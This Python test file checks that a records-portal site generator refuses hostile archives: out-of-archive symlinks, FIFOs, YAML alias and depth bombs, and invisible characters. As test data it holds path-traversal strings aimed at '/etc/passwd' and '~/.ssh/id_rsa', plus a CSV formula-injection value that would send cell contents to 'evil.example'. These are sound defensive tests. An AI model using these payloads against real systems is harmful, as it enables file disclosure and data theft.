"""Hostile archives: refused with a clear problem, never a crash, a hang or a file outside
the archive read; and `portal validate` cold, warm and `portal build` give one verdict."""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from generators import cache
from generators.catalog import build_catalog
from generators.cli import main
from generators.errors import flatten
from generators.load import SourceFile, Unreadable, load_bytes, read_record
from generators.validate import validate

from .conftest import AS_OF, INVALID, ROOT, lay, overlay

CODES = sorted(p.name for p in INVALID.iterdir() if p.is_dir())


# -- one verdict, however the question is asked --------------------------------------------

def _verdict(args: list[str], records: Path) -> tuple[int, list[str]]:
    """Exit code and problem lines of a `portal` run, paths below the records folder."""
    result = CliRunner().invoke(main, args)
    assert "Traceback" not in result.output, result.output
    lines = [ln.replace(str(records) + os.sep, "records/") for ln in result.output.splitlines()
             if ": " in ln and ln.split(":", 1)[0].startswith(str(records))]
    return result.exit_code, lines


@pytest.mark.parametrize("code", CODES)
def test_validate_cold_warm_and_build_agree(code: str, tmp_path: Path) -> None:
    """Issue 12 point 9: every fixture judged cold, from the caches (the report's and the
    sound records'), after an edit seen by a warm cache, and by `portal build`."""
    fixture = INVALID / code
    val = ["validate", "--as-of", str(AS_OF), "--strict", "--records"]

    cold = overlay(tmp_path / "cold", fixture)
    first = _verdict([*val, str(cold)], cold)
    assert first[0] == 1 and first[1], "each fixture has a problem"
    assert _verdict([*val, str(cold)], cold) == first  # answered from the report cache
    assert cache.quick_report(cold, str(AS_OF), str(cold)) is not None

    # the caches hold the valid archive; then the fixture is laid over it, as an edit
    warm = overlay(tmp_path / "warm")
    assert _verdict([*val, str(warm)], warm)[0] == 0
    lay(warm, fixture)
    assert _verdict([*val, str(warm)], warm) == first
    assert _verdict([*val, str(warm)], warm) == first

    # --strict: the build stops after validating, so no fixture needs a whole build
    built = _verdict(["build", "--strict", "--as-of", str(AS_OF), "--records", str(warm),
                      "--site-dir", str(tmp_path / "site"),
                      "--config", str(ROOT / "mkdocs.yml")], warm)
    assert built == first
    assert not (tmp_path / "site").exists()


# -- links, special files, size ------------------------------------------------------------

SECRET = "SENTINEL-OUTSIDE-THE-ARCHIVE"


def _outside_record(folder: Path, rid: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{rid}.yaml"
    path.write_text(f"id: {rid}\ndate: 2026-06-16\nofficials: [mayor]\ntitle: {SECRET}\n"
                    "kind: inspection\nunits: [east]\nclassification: public\n"
                    f"summary: {SECRET}\nbogus: {SECRET}\n", encoding="utf-8")
    return path


def test_links_out_of_the_archive_are_reported_and_never_followed(tmp_path: Path) -> None:
    records = overlay(tmp_path)
    target = _outside_record(tmp_path / "outside", "act-x")
    _outside_record(tmp_path / "outside-folder", "act-y")
    (records / "activities/2026/act-x.yaml").symlink_to(target)
    (records / "activities/2025").symlink_to(tmp_path / "outside-folder")
    (records / "activities/2024").symlink_to(records / "activities/2026")  # a folder inside
    recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert flatten(report.problems, "path", "code") == [
        ["records/activities/2024", "FILE_LINK"],
        ["records/activities/2025", "FILE_LINK"],
        ["records/activities/2026/act-x.yaml", "FILE_LINK"],
    ]
    assert not {"act-x", "act-y"} & {r.id for r in recs}
    assert SECRET not in report.text()  # bogus: would be echoed had the file been read


def test_a_link_inside_the_archive_is_read_as_the_file(tmp_path: Path) -> None:
    records = overlay(tmp_path)
    act = records / "activities/2026/act-a.yaml"
    moved = records / "activities/2026/act-a.txt"
    act.rename(moved)
    act.symlink_to(moved)
    recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert report.problems == []
    assert "act-a" in {r.id for r in recs}


def test_a_hidden_file_is_judged_like_any_other(tmp_path: Path) -> None:
    records = overlay(tmp_path)
    (records / "activities/2026/.act-h.yaml").symlink_to(tmp_path)
    shutil.copy(records / "activities/2026/act-a.yaml", records / "activities/2026/.act-a.yaml")
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert flatten(report.problems, "path", "code") == [
        ["records/activities/2026/.act-a.yaml", "ID_DUPLICATE"],
        ["records/activities/2026/.act-a.yaml", "ID_FILENAME"],
        ["records/activities/2026/.act-h.yaml", "FILE_LINK"],
    ]  # the copy is the one told, not act-a.yaml it was copied from (test_believable)


def test_a_records_folder_reached_through_a_link_is_read(tmp_path: Path) -> None:
    records = overlay(tmp_path / "real")
    (tmp_path / "records").symlink_to(records)
    recs, report = validate(tmp_path / "records", "records", AS_OF, use_cache=False)
    assert report.problems == []
    assert len(recs) == len(validate(records, "records", AS_OF, use_cache=False)[0])


def test_a_file_name_that_is_not_utf8_is_shown_not_crashed_on(tmp_path: Path) -> None:
    records = overlay(tmp_path)
    odd = os.fsencode(records / "activities/2026") + b"/act-\xff.yaml"
    shutil.copy(records / "activities/2026/act-a.yaml", odd)
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert "records/activities/2026/act-<U+DCFF>.yaml" in {p.path for p in report.problems}
    report.json().encode("utf-8")  # no lone surrogate left to fail on


@pytest.mark.parametrize(("path", "escapes"), [
    ("plan.pdf", False), ("2026/plan.pdf", False), ("plan..v2.pdf", False),
    ("../../etc/passwd", True), ("..\\..\\boot.ini", True), ("%2e%2e/secret", True),
    ("/etc/passwd", True), ("~/.ssh/id_rsa", True), ("C:/Windows", True),
    ("file:///etc/passwd", True), ("a/\u202egnp.exe", True),
])
def test_attachment_paths_that_leave_the_attachments_folder(path: str, escapes: bool,
                                                            tmp_path: Path) -> None:
    records = overlay(tmp_path)
    doc = records / "documents/2026/doc-c.yaml"
    doc.write_text(doc.read_text(encoding="utf-8") + "attachments:\n  - title: Plan\n"
                   f"    file: {json.dumps(path)}\n", encoding="utf-8")
    if not escapes:  # a path that stays inside must name a file there (REF_ATTACHMENT)
        (records / "attachments" / path).parent.mkdir(parents=True, exist_ok=True)
        (records / "attachments" / path).write_bytes(b"%PDF-1.4\n")
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert [p.code for p in report.problems] == (["SAFETY_PATH"] if escapes else [])


def test_folders_nested_deeper_than_the_recursion_limit(tmp_path: Path) -> None:
    """The walk keeps a stack, not Python frames.  The recursion limit is lowered instead of
    nesting past the real one: a folder tree that deep would break shutil.rmtree, and with
    it pytest's clean-up of old temporary folders."""
    import inspect
    import sys

    from generators import walk

    records = overlay(tmp_path)
    deep = records / "notes"
    deep.mkdir()
    for _ in range(300):
        deep = deep / "a"
        deep.mkdir()
    (deep / "x.yaml").write_text("id: x\n", encoding="utf-8")
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack()) + 100)  # fewer frames than folder levels
    try:
        found = [(name, kind) for _reldir, name, _path, kind in walk.entries(str(records))]
    finally:
        sys.setrecursionlimit(limit)
    assert ("x.yaml", "file") in found


def test_a_fifo_put_in_a_files_place_is_not_opened(tmp_path: Path) -> None:
    """read_record opens without waiting: a FIFO that replaced a file after the folder was
    listed is refused, not read (reading it would block for ever)."""
    fifo = tmp_path / "doc-f.yaml"
    os.mkfifo(fifo)
    with pytest.raises(Unreadable) as caught:
        read_record(fifo, "doc-f.yaml")
    assert caught.value.problem.code == "FILE_SPECIAL"


def test_the_size_limit_is_configurable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    records = overlay(tmp_path)
    act = records / "activities/2026/act-a.yaml"
    size = act.stat().st_size
    before = cache.code_version()
    monkeypatch.setenv("PORTAL_MAX_RECORD_BYTES", str(size - 1))
    assert cache.code_version() != before  # caches made under another limit are not used
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    too_large = [p for p in report.problems if p.code == "FILE_SIZE"]
    assert ["records/activities/2026/act-a.yaml", 1, "FILE_SIZE"] in flatten(too_large)
    assert f"{size:,} bytes" in next(p.message for p in too_large if "act-a" in p.path)
    monkeypatch.setenv("PORTAL_MAX_RECORD_BYTES", str(size))
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert "records/activities/2026/act-a.yaml" not in {p.path for p in report.problems
                                                         if p.code == "FILE_SIZE"}


# -- what the YAML reader refuses ----------------------------------------------------------

@pytest.mark.parametrize(("text", "code"), [
    ("a: " + "[" * 2000 + "]" * 2000 + "\n", "YAML_DEPTH"),  # past libyaml's own limit
    ("a:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 60)), "YAML_DEPTH"),
    ("a: &a [1, 2]\nb: [*a, *a]\nc: {x: *a}\n", None),  # a few aliases are fine
    ("a: &a {b: &b [*a]}\n", "YAML_ALIAS"),  # a loop through two anchors
    ("a: 1\nb: 2\n\nc: x\x01y\n", "YAML_CONTROL"),
])
def test_reader_limits(text: str, code: str | None) -> None:
    _src, problems = load_bytes(SourceFile(Path("x.yaml"), "x.yaml"), text.encode())
    assert [p.code for p in problems] == ([code] if code else [])


def test_a_control_character_is_reported_at_its_line_and_column() -> None:
    raw = "id: act-b\ntitle: 中文标题\nsummary: ab\x00cd\n".encode()
    _src, problems = load_bytes(SourceFile(Path("x.yaml"), "x.yaml"), raw)
    assert [(p.line, p.col, p.code) for p in problems] == [(3, 12, "YAML_CONTROL")]


def test_invisible_characters_are_refused_in_ids_and_numbers_and_shown(tmp_path: Path) -> None:
    records = overlay(tmp_path)
    doc = records / "documents/2026/doc-c.yaml"
    doc.write_text(doc.read_text(encoding="utf-8").replace("〔2026〕7号", "〔2026〕7号\u202e"),
                   encoding="utf-8")
    sup = records / "supervision/2026/sup-b.yaml"
    sup.write_text(sup.read_text(encoding="utf-8").replace("lead: transport",
                                                           "lead: \"transport\u202e\""),
                   encoding="utf-8")
    lia = records / "liaison/2026/lia-a.yaml"
    lia.write_text(lia.read_text(encoding="utf-8").replace('number: "0012"',
                                                           'number: "00\\u200f12"'),
                   encoding="utf-8")
    _recs, report = validate(records, "records", AS_OF, use_cache=False)
    got = {(p.path.rsplit("/", 1)[1], p.code) for p in report.errors}
    assert {("doc-c.yaml", "NUMBER_FORMAT"), ("sup-b.yaml", "ID_FORMAT"),
            ("lia-a.yaml", "NUMBER_FORMAT")} <= got
    assert not [p for p in report.problems if p.code == "TEXT_CONTROL"]  # said once: errors
    text = report.text() + report.json()
    assert "\u202e" not in text and "\u200f" not in text
    assert "<U+202E>" in text and "<U+200F>" in text


# -- dates the computed figures can hold ---------------------------------------------------

def test_the_last_day_of_the_range_computes_every_figure(tmp_path: Path) -> None:
    """Expiry (effective + 5 years), due dates (received + 3 months), feeds and calendars
    of records dated 2100-12-31 (a record dated 9999 once crashed the build there)."""
    from generators.feeds import atom_feeds, calendars
    from generators.opendata import exports

    records = overlay(tmp_path)
    last = "2100-12-31"
    files = {
        "documents/2100/doc-z.yaml": (
            "id: doc-z\nnumber: 京政发〔2100〕1号\ntype: opinion\nissuers: [city-gov]\n"
            f"title: Last\nrecipients: [east]\nwritten: {last}\npublished: {last}\n"
            f"normative: {{effective: {last}, status: in-force}}\nclassification: public\n"
            "summary: The last day.\n"),
        "liaison/2100/lia-z.yaml": (
            "id: lia-z\nkind: cppcc-proposal\nnumber: \"0099\"\nsession: 2100\n"
            f"proposers: [someone]\ntitle: Last\nreceived: {last}\nlead: health\n"
            "classification: public\n"),
        "supervision/2100/sup-z.yaml": (
            "id: sup-z\ntitle: Last\nsource: {kind: meeting-decision, ref: dec-a1}\n"
            f"lead: transport\nassigned: {last}\ndeadline: {last}\nstate: open\n"
            "classification: public\n"),
        "activities/2100/act-z.yaml": (
            f"id: act-z\ndate: {last}\nofficials: [mayor]\ntitle: Last\nkind: inspection\n"
            "units: [east]\nclassification: public\nsummary: The last day.\n"),
    }
    for rel, text in files.items():
        (records / rel).parent.mkdir(parents=True, exist_ok=True)
        (records / rel).write_text(text, encoding="utf-8")
    recs, report = validate(records, "records", dt.date(2100, 12, 31), use_cache=False)
    assert report.errors == [], report.text()
    cat = build_catalog(recs, dt.date(2100, 12, 31))
    out = {**exports(cat), **atom_feeds(cat), **calendars(cat)}
    assert any("2105-12-30" in text for name, text in out.items() if name.endswith(".csv"))
    assert any("21001231" in text for name, text in out.items() if name.endswith(".ics"))


# -- CSV open data -------------------------------------------------------------------------

def test_a_formula_title_is_text_in_the_csv_and_unchanged_in_the_json(tmp_path: Path) -> None:
    import csv
    import io
    import json

    from generators.opendata import exports

    records = overlay(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    act = records / "activities/2026/act-a.yaml"
    act.write_text(act.read_text(encoding="utf-8").replace(
        "title: Inspection of bus depots", f"title: '{formula}'"), encoding="utf-8")
    recs, report = validate(records, "records", AS_OF, use_cache=False)
    assert report.errors == []
    out = exports(build_catalog(recs, AS_OF))
    rows = list(csv.DictReader(io.StringIO(out["data/activities.csv"])))
    assert [r["title"] for r in rows if r["id"] == "act-a"] == ["'" + formula]
    for name, text in out.items():  # no cell of any table begins a formula
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(text)):
                assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row
                               if not _number(cell)), (name, row)
    data = json.loads(out["data/activities.json"])
    assert [r["title"] for r in data if r["id"] == "act-a"] == [formula]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True

